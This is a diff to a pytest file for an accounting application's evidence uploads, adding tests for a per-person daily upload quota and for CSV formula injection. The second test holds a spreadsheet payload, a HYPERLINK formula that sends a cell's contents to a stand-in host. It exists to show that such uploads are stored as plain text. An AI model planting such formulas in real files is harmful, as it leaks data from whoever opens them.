@@ -16,8 +16,11 @@ from accounting.reports.queries.catalogue import REPORTS
 from accounting.reports.queries.waiting import waiting_now
 from accounting.reports.rules.asking import read_question
 from jackpot.adjusting.models import Adjustment
+from jackpot.evidence.actions import keep
 from jackpot.evidence.actions.keep import add_evidence, checked_upload
 from jackpot.evidence.models import EvidenceFile, RequestEvidence
+from jackpot.evidence.rules.evidence_file import name_to_take
+from jackpot.people.models import Operator
 from jackpot.property.models.property import Property
 from jackpot.refusals import Refused
 from jackpot.trail.models import Trail
@@ -174,3 +177,24 @@ def test_nothing_is_added_to_what_is_over_nor_by_who_has_no_business_with_it() -
     Adjustment.objects.filter(pk=row.pk).update(state="withdrawn")
     with pytest.raises(Refused, match="nothing is added to it"):
         add_evidence(request=row, upload=checked_upload("a.pdf", PDF), by=a_person("adder", may=("adjust",)))
+
+
+def test_nobody_alone_fills_the_disk_of_the_books(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(keep, "MOST_A_DAY", 2 * 1024 * 1024)
+    row, adder, other = a_request(), a_person("filler", may=("adjust",)), a_person("other", may=("adjust",))
+
+    def add(number: int, by: Operator) -> None:
+        add_evidence(request=row, upload=checked_upload(f"{number}.pdf", PDF + bytes([number]) * 2**20), by=by)
+
+    add(1, adder)
+    with pytest.raises(
+        Refused, match=r"Test Filler added 1.1 MB of evidence since yesterday, and one person adds 2.0 MB"
+    ):
+        add(2, adder)
+    add(2, other)
+    assert RequestEvidence.objects.count() == 2
+
+
+def test_text_is_never_opened_by_a_spreadsheet() -> None:
+    upload = checked_upload("counts.csv", b'=HYPERLINK("https://mine.example/"&A1),12')
+    assert (upload.kind, name_to_take(upload.name, upload.kind)) == ("text", "counts.csv.txt")
